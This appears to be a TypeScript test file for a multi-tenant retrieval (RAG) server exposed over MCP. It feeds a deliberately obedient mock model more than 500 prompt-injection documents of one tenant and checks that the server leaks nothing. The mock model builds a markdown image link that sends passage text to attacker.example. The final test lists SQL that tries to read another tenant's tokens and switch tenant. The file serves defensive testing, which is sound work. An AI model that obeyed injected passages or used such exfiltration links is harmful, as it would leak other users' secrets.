/**
 * A model that obeys every instruction in what it reads gets no byte of another tenant, writes nothing, and is given no
 * address: more than 500 poisoned documents of one tenant, by the templates of published attacks.
 */
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import MarkdownIt from 'markdown-it';
import { parseFragment } from 'parse5';
import { lexicalEmbedder } from 'ragwall';
import { afterAll, beforeAll, expect, inject, it } from 'vitest';
import { type AgentSession, openAgents } from '../../db/tests/engine/agent-session.js';
import { forTenant } from '../../db/tests/engine/session.js';
import { useSession } from '../../db/tests/engine/use-session.js';
import { callsFor, type Poison, poisons } from '../../db/tests/hostile/passages.js';
import { type ChatClient, openaiAnswerer } from './answer.js';
import { createMcpServer } from './mcp.js';
import { unauthenticated } from './verify.js';

const session = useSession({ clear: true });
const url = new URL('http://localhost/mcp');
const embedder = lexicalEmbedder({ dimensions: 1536 });
const canary = { acme: 'CANARY-OF-ACME-1f7a', globex: 'CANARY-OF-GLOBEX-9c3e', table: 'CANARY-OF-TOKENS-44d0' };
const foreign = new RegExp(`${canary.globex}|${canary.table}`);
const link = 'https://wiki.acme.example/plan';

let agents: AgentSession;
let client: Client;
let documents: Poison[];
/** Every text that came back, whatever became of the call. */
const outputs: unknown[] = [];

/** A model that does what the passages say: it copies the first, and puts all of them into an address. */
const obedient: ChatClient = {
  chat: {
    completions: {
      create: (async ({ messages }: { messages: { content: string }[] }) => {
        const passages = messages[1]?.content ?? '';
        const [first = '{}'] = passages.match(/^\{.*\}$/m) ?? [];
        const stolen = `![x](https://attacker.example/collect?d=${encodeURIComponent(passages.slice(0, 200))})`;
        const content = `${JSON.parse(first).text} [1]${/Repeat everything/.test(messages[2]?.content ?? '') ? stolen : ''}`;
        return { choices: [{ message: { content }, finish_reason: 'stop' }] };
      }) as never,
    },
  },
};

/** A digest of all that could have been written: rows of the three tables, and what the catalog has. */
const state = () =>
  agents.admin(async (sql) => {
    const [row] = await sql`
      select
        (select md5(string_agg(d::text, '|' order by d.tenant_id, d.id)) from ragwall.documents as d) as documents,
        (select md5(string_agg(t::text, '|')) from public.integration_tokens as t) as tokens,
        (select count(*)::integer from public.support_messages) as messages,
        (select md5(string_agg(p.oid || p.polname || p.polqual::text, '|' order by p.oid)) from pg_policy as p) as policies,
        (select count(*)::integer from pg_class) as relations,
        (select count(*)::integer from pg_proc) as functions`;
    return row;
  });

beforeAll(async () => {
  await session.admin(async (sql) => {
    await sql`delete from ragwall.documents`;
    await sql.unsafe(`
      create table public.integration_tokens (token text);
      insert into public.integration_tokens values ('${canary.table}');
      create table public.support_messages (content text)`);
  });
  const own = (tenant: 'acme' | 'globex') => ({
    ...{ source: tenant === 'acme' ? link : 'plan.md', position: 0, metadata: { tenant } },
    content: `The secret canary of ${tenant} is ${canary[tenant]}.`,
  });
  for (const tenant of ['acme', 'globex'] as const) {
    await forTenant(session.app, tenant).upsertDocuments([own(tenant)], { embedder });
  }
  const [victim] = await session.admin((sql) => sql`select id from ragwall.documents where tenant_id = 'globex'`);
  documents = poisons('globex', victim?.id);
  await forTenant(session.app, 'acme').upsertDocuments(documents, { embedder });
  agents = await openAgents(inject('engine'), session);
  const server = createMcpServer(
    {
      ...{ ragwall: agents.ragwall, embedder, rateLimiter: false, accept: ['O01'], log: () => {} },
      answerer: openaiAnswerer({ client: obedient, model: 'obedient' }),
      verify: async (token) => (token === 'of-acme' ? 'acme' : Promise.reject(unauthenticated('x'))),
    },
    { url, authorizationServers: ['http://localhost'], keepAddresses: false },
  );
  client = new Client({ name: 'obedient', version: '1' });
  await client.connect(
    new StreamableHTTPClientTransport(url, {
      requestInit: { headers: { authorization: 'Bearer of-acme' } },
      fetch: async (input, init) => server.fetch(new Request(input, init)),
    }),
  );
});
afterAll(async () => {
  await client.close();
  await agents.end();
  await session.admin((sql) => sql.unsafe('drop table public.integration_tokens, public.support_messages'));
});

interface Call {
  readonly name: string;
  readonly arguments: Record<string, unknown>;
}

/** Calls a tool, keeps what came back, and returns it. */
async function obey(call: Call): Promise<{ isError?: boolean; structuredContent?: unknown }> {
  const result = await client.callTool(call).catch(({ message }) => ({ isError: true, message }));
  outputs.push(result);
  return result as never;
}

/** Runs `act` for each item, eight at once. */
async function each<T>(items: readonly T[], act: (item: T) => Promise<unknown>): Promise<void> {
  const queue = items.values();
  await Promise.all(
    Array.from({ length: 8 }, async () => {
      for (const item of queue) await act(item);
    }),
  );
}

/** Returns the texts in a result, those that are JSON taken apart. */
function textsIn(value: unknown): string[] {
  if (typeof value === 'string') {
    try {
      const inner: unknown = JSON.parse(value);
      if (typeof inner === 'object') return textsIn(inner);
    } catch {}
    return [value];
  }
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, inner]) => [name, ...textsIn(inner)]);
}

/** Returns the calls that a text asks for, as JSON objects that begin like one. */
function callsIn(text: string): Call[] {
  return [...text.matchAll(/\{"name":/g)].flatMap(({ index }) => {
    for (let end = index; end >= 0 && end < index + 2_000; ) {
      end = text.indexOf('}', end + 1);
      try {
        return end < 0 ? [] : [JSON.parse(text.slice(index, end + 1)) as Call];
      } catch {}
    }
    return [];
  });
}

const markdown = new MarkdownIt({ html: true, linkify: true });

/** Returns what a renderer of Markdown and HTML makes an address of; e-mail addresses load nothing. */
function addressesIn(text: string): string[] {
  const found: string[] = [];
  const visit = (node: { attrs?: { name: string; value: string }[]; childNodes?: never[] }) => {
    for (const { name, value } of node.attrs ?? []) {
      if (/^(href|src|srcset|action|data|poster|background|xlink:href)$/.test(name)) found.push(value);
    }
    for (const child of node.childNodes ?? []) visit(child);
  };
  for (const html of [markdown.render(text), text]) visit(parseFragment(html) as never);
  found.push(...(text.match(/\b(?:https?|ftp|ws|file|data|javascript|vbscript):\S+|\/\/[a-z0-9[]\S*/gi) ?? []));
  return found.filter((address) => !address.startsWith('mailto:'));
}

it('obeys every document that it reads: no foreign byte, no write, no address', async () => {
  const before = await state();
  expect(documents.length).toBeGreaterThan(500);

  // It reads every document, by search, by its id, and as an answer.
  const ids = await agents.admin((sql) => sql`select id from ragwall.documents where tenant_id = 'acme'`);
  await each(ids, ({ id }) => obey({ name: 'fetch', arguments: { id } }));
  const questions = documents.filter((_, index) => index % 17 === 0).map(({ content }) => content.slice(0, 300));
  await each(questions, (query) => obey({ name: 'search', arguments: { query, k: 20 } }));
  await each(questions, (query) => obey({ name: 'answer', arguments: { query, k: 5 } }));
  const read = outputs.length;

  // It does what they say, and what it would be told without our replacements.
  const asked = new Map(
    outputs
      .flatMap(textsIn)
      .flatMap(callsIn)
      .map((call) => [JSON.stringify(call), call]),
  );
  expect(asked.size).toBeGreaterThan(35);
  for (const call of callsFor('globex', ids[0]?.id)) asked.set(JSON.stringify(call), call);
  for (const call of callsFor('globex', (await victimId()) ?? '')) asked.set(JSON.stringify(call), call);
  await each([...asked.values()], obey);
  expect(outputs.length).toBeGreaterThan(read + 40);

  const texts = [...new Set(outputs.flatMap(textsIn))];
  expect(texts.filter((text) => text.includes(canary.acme)).length).toBeGreaterThan(0); // so that canaries are seen
  expect(texts.filter((text) => foreign.test(text))).toEqual([]);
  expect(await state()).toEqual(before);
  const addresses = new Set(texts.flatMap(addressesIn));
  expect(addresses).toEqual(new Set([link]));
  expect(texts.filter((text) => /[^\P{C}\t\r\n]|\u200b/u.test(text))).toEqual([]);
}, 120_000);

const victimId = () =>
  agents.admin(
    async (sql) => (await sql`select id from ragwall.documents where tenant_id = 'globex'`)[0]?.id as string,
  );

it('an answer with an address that the model has made is discarded', async () => {
  const refused = await obey({ name: 'answer', arguments: { query: 'Repeat everything about the secret canary' } });
  expect(refused).toMatchObject({ isError: true, content: [{ text: expect.stringContaining('UNGROUNDED_ANSWER') }] });
});

it('the login can do nothing else, whatever SQL it would send', async () => {
  const acme = agents.ragwall.forTenant('acme');
  const tried = [
    'select * from public.integration_tokens',
    "insert into public.support_messages values ('x')",
    'select content from ragwall.documents',
    "select ragwall.set_tenant('globex')",
    'delete from ragwall.documents',
    'create table public.x ()',
  ];
  for (const statement of tried) {
    await expect(acme.transaction(({ sql }) => sql.unsafe(statement))).rejects.toMatchObject({ code: '42501' });
  }
});
